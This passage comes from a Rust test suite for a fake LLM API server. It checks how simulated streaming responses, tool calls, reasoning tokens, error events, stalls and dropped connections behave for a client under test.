            .map(|e| e["type"].as_str().unwrap().to_owned())
            .collect()
    }

    fn request(model: &str, text: &str) -> Value {
        json!({
            "model": model,
            "stream": true,
            "input": [{ "type": "message", "role": "user", "content": [{ "type": "input_text", "text": text }] }],
        })
    }

    fn tool_request(model: &str, text: &str) -> Value {
        let mut r = request(model, text);
        r["tools"] = json!([
            { "type": "openrouter:web_search" },
            { "type": "function", "name": "weather", "parameters": {
                "type": "object", "properties": { "city": { "type": "string" },
                "units": { "type": ["string", "null"] } }, "required": ["city", "units"] } },
            { "type": "function", "name": "clock", "parameters": { "type": "object", "properties": {} } },
        ]);
        r
    }

    /// The terminal output items, reasoning left out.
    fn completed_output(reply: &Reply) -> Vec<Value> {
        let all = events(reply);
        let last = all.last().unwrap();
        assert_eq!(last["type"], "response.completed");
        last["response"]["output"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|i| i["type"] != "reasoning")
            .cloned()
            .collect()
    }

    #[test]
    fn tool_scenarios_call_the_offered_tools_then_answer_with_their_outputs() {
        let config = FakeConfig::default();
        let r = tool_request("fake/tool-call", "weather please");
        let reply = reply(Scenario::ToolCall, &r, true, &config);
        let output = completed_output(&reply);
        assert_eq!(output.len(), 1);
        assert_eq!(output[0]["name"], "weather");
        let args: Value = serde_json::from_str(output[0]["arguments"].as_str().unwrap()).unwrap();
        assert_eq!(args, json!({ "city": "Paris", "units": null }));
        let kinds = kinds(&reply);
        assert!(kinds.contains(&"response.function_call_arguments.delta".to_owned()));

        // Late arguments: empty in every item event, whole in `response.completed`.
        let reply = super::reply(Scenario::ToolCallLate, &r, true, &config);
        for e in events(&reply) {
            if e["type"] == "response.output_item.done" && e["item"]["type"] == "function_call" {
                assert_eq!(e["item"]["arguments"], "");
            }
        }
        assert_ne!(completed_output(&reply)[0]["arguments"], "");

        let both = super::reply(Scenario::ToolParallel, &r, true, &config);
        let names: Vec<Value> = completed_output(&both)
            .iter()
            .map(|i| i["name"].clone())
            .collect();
        assert_eq!(names, vec![json!("weather"), json!("clock")]);
        let only = tool_request("fake/tool-parallel", "use:clock please");
        assert_eq!(
            completed_output(&super::reply(Scenario::ToolParallel, &only, true, &config)).len(),
            1
        );
        let many = tool_request("fake/tool-many", "use:clock times:9");
        let output = completed_output(&super::reply(Scenario::ToolMany, &many, true, &config));
        assert_eq!(output.len(), 9);
        let ids: std::collections::BTreeSet<&str> = output
            .iter()
            .map(|i| i["call_id"].as_str().unwrap())
            .collect();
        assert_eq!(ids.len(), 9, "every call has its own id");

        // With outputs in the input, the answer quotes them; `fake/tool-forever` calls again
        // unless tool_choice is none.
        let mut follow = tool_request("fake/tool-call", "weather please");
        follow["input"].as_array_mut().unwrap().extend([
            json!({ "type": "function_call", "call_id": "c1", "name": "weather", "arguments": "{}" }),
            json!({ "type": "function_call_output", "call_id": "c1", "output": "sunny" }),
        ]);
        let answer = super::reply(Scenario::ToolCall, &follow, true, &config);
        assert_eq!(
            completed_output(&answer)[0]["content"][0]["text"],
            "tool results: sunny"
        );
        let again = super::reply(Scenario::ToolForever, &follow, true, &config);
        assert_eq!(completed_output(&again)[0]["type"], "function_call");
        follow["tool_choice"] = json!("none");
        let stop = super::reply(Scenario::ToolForever, &follow, true, &config);
        assert_eq!(completed_output(&stop)[0]["type"], "message");
    }

    #[test]
    fn every_listed_model_id_selects_a_scenario_and_others_do_not() {
        for id in Scenario::MODEL_IDS {
            assert!(Scenario::from_model(id).is_some(), "{id}");
        }
        assert_eq!(Scenario::from_model("fake/status-418"), None);
        assert_eq!(Scenario::from_model("fake/unknown"), None);
        assert_eq!(Scenario::from_model("openai/gpt-4o-2024-08-06"), None);
    }

    #[test]
    fn echo_takes_the_last_user_message_in_either_content_shape() {
        let parts = json!({ "input": [
            { "role": "user", "content": "first" },
            { "type": "message", "role": "assistant", "content": [{ "type": "output_text", "text": "reply" }] },
            { "type": "message", "role": "user", "content": [{ "type": "input_text", "text": "second" }] },
        ]});
        assert_eq!(echo_answer(&parts), "echo: second");
        let plain = json!({ "input": [{ "role": "user", "content": "plain words" }] });
        assert_eq!(echo_answer(&plain), "echo: plain words");
        assert_eq!(echo_answer(&json!({ "input": "bare" })), "echo: bare");
    }

    #[test]
    fn sequence_numbers_count_up_from_zero_without_gaps() {
        let reply = reply(
            Scenario::Reasoning,
            &request("fake/reasoning", "hi there"),
            true,
            &FakeConfig::default(),
        );
        for (i, event) in events(&reply).iter().enumerate() {
            assert_eq!(event["sequence_number"], json!(i), "{event}");
        }
    }

    #[test]
    fn echo_deltas_concatenate_to_the_completed_text() {
        let reply = reply(
            Scenario::Echo,
            &request("fake/echo", "hello big world"),
            true,
            &FakeConfig::default(),
        );
        let events = events(&reply);
        let deltas: String = events
            .iter()
            .filter(|e| e["type"] == "response.output_text.delta")
            .map(|e| e["delta"].as_str().unwrap())
            .collect();
        assert_eq!(deltas, "echo: hello big world");
        let completed = events.last().unwrap();
        assert_eq!(completed["type"], "response.completed");
        assert_eq!(
            completed["response"]["output"][0]["content"][0]["text"],
            "echo: hello big world"
        );
        let usage = &completed["response"]["usage"];
        let input = usage["input_tokens"].as_u64().unwrap();
        let output = usage["output_tokens"].as_u64().unwrap();
        assert_eq!(usage["total_tokens"], json!(input + output));
        assert_eq!(usage["input_tokens_details"]["cached_tokens"], json!(2));
        assert_eq!(usage["cost"], json!(fake_cost(input, output)));
    }

    #[test]
    fn reasoning_reports_reasoning_tokens_and_encrypted_content() {
        let reply = reply(
            Scenario::Reasoning,
            &request("fake/reasoning", "hi"),
            true,
            &FakeConfig::default(),
        );
        let events = events(&reply);
        let done = events
            .iter()
            .find(|e| e["type"] == "response.output_item.done" && e["item"]["type"] == "reasoning")
            .unwrap();
        let id = done["item"]["id"].as_str().unwrap();
        assert!(id.starts_with("rs_"));
        assert_eq!(
            done["item"]["encrypted_content"],
            json!(format!("gAAAA-fake-encrypted-{id}"))
        );
        let completed = events.last().unwrap();
        assert!(
            completed["response"]["usage"]["output_tokens_details"]["reasoning_tokens"]
                .as_u64()
                .unwrap()
                > 0
        );
        assert_eq!(
            completed["response"]["output"][1]["content"][0]["text"],
            "echo: hi"
        );
    }

    #[test]
    fn the_non_streaming_answer_is_the_completed_response() {
        let reply = reply(
            Scenario::Echo,
            &request("fake/echo", "quiet"),
            false,
            &FakeConfig::default(),
        );
        let [Step::Raw(body)] = reply.steps.as_slice() else {
            panic!("one JSON body expected")
        };
        let body: Value = serde_json::from_str(body).unwrap();
        assert_eq!(body["status"], "completed");
        assert_eq!(body["output"][0]["content"][0]["text"], "echo: quiet");
        assert!(body["usage"]["cost"].as_f64().unwrap() > 0.0);
    }

    #[test]
    fn stall_pauses_once_after_its_deltas_and_flood_sends_its_bulk() {
        let config = FakeConfig::default();
        let stall = reply(Scenario::Stall, &request("fake/stall", "x"), true, &config);
        let pauses: Vec<&Step> = stall
            .steps
            .iter()
            .filter(|s| matches!(s, Step::Pause(_)))
            .collect();
        assert!(matches!(pauses.as_slice(), [Step::Pause(p)] if *p == STALL_HOLD));
        let texts: Vec<Value> = events(&stall)
            .into_iter()
            .filter(|e| e["type"] == "response.output_text.delta")
            .map(|e| e["delta"].clone())
            .collect();
        assert_eq!(texts, STALL_DELTAS.map(|d| json!(d)).to_vec());
        let flood = reply(Scenario::Flood, &request("fake/flood", "x"), true, &config);
        let bulk: usize = events(&flood)
            .into_iter()
            .filter(|e| e["type"] == "response.output_text.delta")
            .map(|e| e["delta"].as_str().unwrap().len())
            .sum();
        assert_eq!(bulk, FLOOD_DELTAS * FLOOD_DELTA_CHARS);
    }

    #[test]
    fn slow_pauses_between_its_deltas_only() {
        let config = FakeConfig {
            slow_delay_ms: 5,
            slow_deltas: 4,
            ..FakeConfig::default()
        };
        let reply = reply(Scenario::Slow, &request("fake/slow", "x"), true, &config);
        let pauses = reply
            .steps
            .iter()
            .filter(|s| matches!(s, Step::Pause(_)))
            .count();
        assert_eq!(pauses, 3);
        let deltas: Vec<Value> = events(&reply)
            .into_iter()
            .filter(|e| e["type"] == "response.output_text.delta")
            .map(|e| e["delta"].clone())
            .collect();
        assert_eq!(
            deltas,
            vec![
                json!("tok0 "),
                json!("tok1 "),
                json!("tok2 "),
                json!("tok3 ")
            ]
        );
    }

    #[test]
    fn early_endings_stop_after_three_deltas() {
        let config = FakeConfig::default();
        let drop = reply(Scenario::Drop, &request("fake/drop", "x"), true, &config);
        assert!(matches!(drop.steps.last(), Some(Step::Cut)));
        let no_terminal = reply(
            Scenario::NoTerminal,
            &request("fake/no-terminal", "x"),
            true,
            &config,
        );
        assert_eq!(
            kinds(&no_terminal).last().map(String::as_str),
            Some("response.output_text.delta")
        );
        let mid = reply(
            Scenario::MidFailure,
            &request("fake/mid-failure", "x"),
            true,
            &config,
        );
        let mid_kinds = kinds(&mid);
        assert_eq!(
            mid_kinds
                .iter()
                .filter(|k| *k == "response.output_text.delta")
                .count(),
            3
        );
        assert_eq!(
            mid_kinds.last().map(String::as_str),
            Some("response.failed")
        );
        assert_eq!(
            events(&mid).last().unwrap()["response"]["error"]["code"],
            "server_error"
        );
    }

    #[test]
    fn error_event_matches_the_documented_shape() {
        let reply = reply(
            Scenario::ErrorEvent,
            &request("fake/error-event", "x"),
            true,
            &FakeConfig::default(),
        );
        let error = events(&reply).pop().unwrap();
        assert_eq!(
            error,
            json!({
                "type": "error",
                "code": "rate_limit_exceeded",
                "message": "Provider rate limited (fake)",
                "param": null,
                "sequence_number": 1,
            })
        );
    }

    #[test]
    fn status_scenarios_carry_provider_metadata() {
        let reply = status_reply(402);
        assert_eq!(reply.status, 402);
        let [Step::Raw(body)] = reply.steps.as_slice() else {
            panic!("one JSON body expected")
        };
        let body: Value = serde_json::from_str(body).unwrap();
        assert_eq!(body["error"]["code"], 402);
        assert_eq!(body["error"]["message"], "Insufficient credits (fake)");
        assert_eq!(body["error"]["metadata"]["provider_name"], "FakeProvider");
        assert_eq!(
            body["error"]["metadata"]["raw"],
            "{\"error\":{\"message\":\"upstream said no\"}}"
        );
    }

    #[test]
    fn input_tokens_count_instructions_and_message_text_but_not_urls() {
        let with_image = json!({
            "instructions": "abcd",
            "input": [{ "role": "user", "content": [
                { "type": "input_text", "text": "efgh" },
                { "type": "input_image", "image_url": "data:image/png;base64,AAAAAAAAAAAAAAAAAAAAAAAA" },
            ]}],
        });
        assert_eq!(input_tokens(&with_image), 8 / 4 + 1);
    }

    #[test]
    fn variant_suffixes_and_the_echoed_realistic_ids_select_echo() {
        assert_eq!(
            Scenario::from_model("fake/echo:nitro"),
            Some(Scenario::Echo)
        );
        assert_eq!(
            Scenario::from_model("anthropic/claude-sonnet-4.5"),
            Some(Scenario::Echo)
        );
        assert_eq!(
            Scenario::from_model("fake/echo@preset/fast"),
            Some(Scenario::Echo)
        );
        assert_eq!(Scenario::from_model("fake/unknown:nitro"), None);
    }

    #[test]
    fn effort_picky_refuses_other_efforts_with_the_supported_values_in_raw() {
        let config = FakeConfig::default();
        let mut body = request("fake/effort-picky", "x");
        body["reasoning"] = json!({ "effort": "medium" });
        let refused = reply(Scenario::EffortPicky, &body, true, &config);
        assert_eq!(refused.status, 400);
        let Step::Raw(text) = &refused.steps[0] else {
            panic!("a JSON body");
        };
        let raw = serde_json::from_str::<Value>(text).unwrap()["error"]["metadata"]["raw"]
            .as_str()
            .map(|raw| serde_json::from_str::<Value>(raw).unwrap())
            .unwrap();
        assert_eq!(raw["error"]["param"], "reasoning.effort");
        assert!(
            raw["error"]["message"]
                .as_str()
                .unwrap()
                .contains("Supported values are: 'low', 'high'")
        );
        body["reasoning"] = json!({ "effort": "high" });
        let accepted = reply(Scenario::EffortPicky, &body, true, &config);
        assert_eq!(accepted.status, 200);
        assert!(kinds(&accepted).contains(&"response.completed".to_owned()));
    }

    #[test]
    fn signature_refuses_only_inputs_that_replay_reasoning() {
        let config = FakeConfig::default();
        let mut body = request("fake/signature", "x");
        assert_eq!(reply(Scenario::Signature, &body, true, &config).status, 200);
        body["input"].as_array_mut().unwrap().insert(
            0,
            json!({ "type": "reasoning", "id": "rs_1", "summary": [] }),
        );
        let refused = reply(Scenario::Signature, &body, true, &config);
        assert_eq!(refused.status, 400);
        assert!(
            matches!(&refused.steps[0], Step::Raw(t) if t.contains("thinking block cannot be modified"))
        );
    }

    #[test]
    fn citations_annotate_the_echo_with_every_citation_url() {
        let config = FakeConfig::default();
        let citations = reply(
            Scenario::Citations,
            &request("fake/citations", "x"),
            true,
            &config,
        );
        let urls: Vec<Value> = events(&citations)
            .into_iter()
            .filter(|e| e["type"] == "response.output_text.annotation.added")
            .map(|e| e["annotation"]["url"].clone())
            .collect();
        assert_eq!(urls, CITATION_URLS.map(Value::from));
    }

    #[test]
    fn incomplete_ends_with_the_token_limit_reason_and_usage() {
        let config = FakeConfig::default();
        let cut = reply(
            Scenario::Incomplete,
            &request("fake/incomplete", "x"),
            true,
            &config,
        );
        let last = events(&cut).pop().unwrap();
        assert_eq!(last["type"], "response.incomplete");
        assert_eq!(
            last["response"]["incomplete_details"]["reason"],
            "max_output_tokens"
        );
        assert!(last["response"]["usage"]["output_tokens"].as_u64().unwrap() > 0);
    }

    #[test]
    fn chat_completions_streams_reasoning_content_finish_usage_and_done() {
        let body = json!({ "model": "fake/responses-unsupported", "stream": true,
                           "messages": [{ "role": "user", "content": "hey you" }] });
        let chat = chat_reply(Scenario::ResponsesUnsupported, &body).unwrap();
        let chunks = events(&chat);
        assert_eq!(
            chunks[0]["choices"][0]["delta"]["reasoning"],
            CHAT_REASONING
        );
        let content: String = chunks
            .iter()
            .filter_map(|c| c["choices"][0]["delta"]["content"].as_str())
            .collect();
        assert_eq!(content, "echo: hey you");
        assert_eq!(
            chunks[chunks.len() - 2]["choices"][0]["finish_reason"],
            "stop"
        );
        let usage = &chunks[chunks.len() - 1];
        assert_eq!(usage["choices"], json!([]));
        assert!(usage["usage"]["cost"].as_f64().unwrap() > 0.0);
        assert!(matches!(chat.steps.last(), Some(Step::Raw(t)) if t == "data: [DONE]\n\n"));
        assert!(chat_reply(Scenario::Slow, &body).is_none());
    }

    #[test]
    fn no_thoughts_refuses_only_requests_that_ask_for_reasoning() {
        let config = FakeConfig::default();
        let mut body = request("fake/no-thoughts", "x");
        assert_eq!(
            reply(Scenario::NoThoughts, &body, true, &config).status,
            200
        );
        body["reasoning"] = json!({ "effort": "medium" });
        let refused = reply(Scenario::NoThoughts, &body, true, &config);
        assert_eq!(refused.status, 400);
        assert!(
            matches!(&refused.steps[0], Step::Raw(t) if t.contains("include_thoughts is only enabled"))
        );
    }

    #[test]
    fn cut_start_dies_before_any_event_and_slow_start_pauses_before_output() {
        let config = FakeConfig::default();
        let cut = reply(
            Scenario::CutStart,
            &request("fake/cut-start", "x"),
            true,
            &config,
        );
        assert!(events(&cut).is_empty());
        assert!(matches!(cut.steps.last(), Some(Step::Cut)));
        let slow = reply(
            Scenario::SlowStart,
            &request("fake/slow-start", "x"),
            true,
            &config,
        );
        let pause = slow.steps.iter().position(|s| matches!(s, Step::Pause(_)));
        let first_output = slow
            .steps
            .iter()
            .position(|s| matches!(s, Step::Event(e) if e["type"] == "response.output_item.added"));
        assert!(pause.unwrap() < first_output.unwrap());
    }

    #[test]
    fn chat_bridge_streams_details_a_citation_and_a_fragmented_call_when_tools_are_offered() {
        let mut body = json!({ "model": "fake/chat-bridge", "stream": true,
                               "messages": [{ "role": "user", "content": "hi" }] });
        let plain = chat_reply(Scenario::ChatBridge, &body).unwrap();
        let chunks = events(&plain);
        assert!(
            chunks
                .iter()
                .all(|c| c["choices"][0]["delta"].get("tool_calls").is_none())
        );
        body["tools"] = json!([{ "type": "function", "function": { "name": "weather" } }]);
        let chunks = events(&chat_reply(Scenario::ChatBridge, &body).unwrap());
        let arguments: String = chunks
            .iter()
            .filter_map(|c| {
                c["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"].as_str()
            })
            .collect();
        assert_eq!(arguments, "{\"city\": \"Paris\"}");
        let signed = chunks.iter().any(|c| {
            c["choices"][0]["delta"]["reasoning_details"][0]["signature"] == BRIDGE_SIGNATURE
        });
        assert!(signed);
        assert_eq!(
            chunks[chunks.len() - 2]["choices"][0]["finish_reason"],
            "tool_calls"
        );
        assert_eq!(
            reply(Scenario::ChatBridge, &body, true, &FakeConfig::default()).status,
            400
        );
    }

    #[test]
    fn html_502_is_a_bad_gateway_page_not_json() {
        let reply = reply(Scenario::Html502, &json!({}), true, &FakeConfig::default());
        assert_eq!((reply.status, reply.content_type), (502, "text/html"));
        let [Step::Raw(body)] = reply.steps.as_slice() else {
            panic!("one body");
        };
        assert!(body.contains("<script>") && body.contains("502   Bad Gateway"));
        assert!(serde_json::from_str::<Value>(body).is_err());
    }

    #[test]
    fn endless_line_sends_its_bytes_without_a_line_break() {
        let reply = reply(
            Scenario::EndlessLine,
            &json!({}),
            true,
            &FakeConfig::default(),
        );
        assert_eq!(
            (reply.status, reply.content_type),
            (200, "text/event-stream")
        );
        let mut after_data = 0usize;
        for step in &reply.steps[1..] {
            let bytes: &[u8] = match step {
                Step::Raw(text) => text.as_bytes(),
                Step::Bytes(bytes) => bytes,
                other => panic!("unexpected step {other:?}"),
            };
            assert!(!bytes.contains(&b'\n') && !bytes.contains(&b'\r'));
            if matches!(step, Step::Bytes(_)) {
                after_data += bytes.len();
            }
        }
        assert_eq!(after_data, ENDLESS_LINE_BYTES);
    }
}
